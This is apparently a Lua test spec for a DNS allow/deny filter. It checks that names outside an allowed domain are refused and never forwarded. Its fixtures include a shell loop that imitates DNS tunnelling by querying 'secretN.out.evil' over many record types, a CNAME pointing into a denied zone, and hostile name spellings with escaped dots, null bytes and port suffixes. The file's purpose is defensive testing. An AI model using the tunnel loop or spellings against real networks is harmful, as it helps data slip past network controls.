-- SPDX-License-Identifier: MIT
-- Whoever is refused a name does not get a question out: the name server counts.
local lab = require("spec.support.lab")

describe("rules about names", function()
  local L
  local zone = [[
*.test A 0 203.0.113.1
*.test AAAA 0 2001:db8:2::1
*.test TXT 0 data
*.evil A 0 203.0.113.2
*.evil TXT 0 command
in.test CNAME 0 x.out.evil
]]
  lazy_setup(function()
    L = lab.start()
    L:serve_authority("names", { "203.0.113.53", "2001:db8:2::53" }, zone)
  end)
  lazy_teardown(function() L:stop() end)
  if lab.direct then return end

  local allow = "nsnet.default(nsnet.deny) nsnet.rules { { domain = '.test', nsnet.allow } }"
  local servers = { "@10.0.0.53", "@fd6e:736e:6574::53" }

  local function run(code, words)
    return L:run(words, { args = { "-e", code } })
  end

  -- The data of a tunnel is in the names: each question carries some out, the answers some in.
  local tunnel = [[
    for i in 1 2 3 4 5; do
      for type in TXT NULL CNAME A AAAA MX SRV HTTPS TYPE4711 ANY; do
        dig +tries=1 +time=2 $0 $1 secret$i.out.evil $type | grep -o "status: [A-Z]*"
      done
    done | sort | uniq -c]]

  for _, server in ipairs(servers) do
    for _, way in ipairs({ "+notcp", "+tcp" }) do
      it("stop a tunnel by " .. way .. " " .. server, function()
        run(allow, { "sh", "-c", tunnel, way, server }):shows("^ *50 status: REFUSED\n$")
      end)
      it("let what is named through by " .. way .. " " .. server, function()
        run(allow, { "dig", "+short", way, server, "a.test", "TXT" }):says('"data"')
        run(allow, { "dig", "+short", way, server, "a.test", "AAAA" }):says("2001:db8:2::1")
      end)
    end
  end

  it("count what a name stands for as the name", function()
    run(allow, { "dig", "+short", "in.test" }):says("x.out.evil.\n203.0.113.2")
    run(allow, { "dig", "x.out.evil" }):shows("status: REFUSED")
  end)

  it("tell once what was refused, and how to allow it", function()
    local r = run(allow, { "sh", "-c", "getent hosts a.evil; dig a.evil TXT >&2; true" }):exits(0)
    local _, count = r.err:gsub("a%.evil A+ denied %(REFUSED%) by default; { domain = .a%.evil", "")
    assert.equal(1, count)
  end)

  it("refuse hostile spellings", function()
    for _, name in ipairs({ [[a\.test.evil]], [[x\000.test]], [[x\032y.test]], [[\255.test]],
      [[a\.b.test]], "test.evil", "xtest", "test\\.", ".", "a@b.test", "a/b.test", "a:80.test" }) do
      run(allow, { "dig", "+tries=1", "+time=2", name, "TXT" }):shows("status: REFUSED")
    end
    for _, name in ipairs({ "TEST", "a.TeSt.", "_x._tcp.test", "xn--4ca.test" }) do
      run(allow, { "dig", "+tries=1", "+time=2", name, "TXT" }):shows("status: N[OX]")
    end
  end)

  it("that only deny leave other names alone", function()
    local deny = "nsnet.rules { { domain = '.evil', nsnet.deny } }"
    run(deny, { "dig", "+short", "a.test", "A" }):says("203.0.113.1")
    run(deny, { "dig", "b.out.evil", "TXT" }):shows("status: REFUSED")
    run(deny, { "dig", [[b\.c.out.evil]], "TXT" }):shows("status: REFUSED")
  end)

  it("send no question for a denied name to anybody", function()
    assert.equal(0, L:asked("names", nil, "evil %w+$"))
    assert.equal(0, L:asked("names", nil, "\\\\"))
    assert.is_true(L:asked("names", "a.test") > 0)
  end)
end)
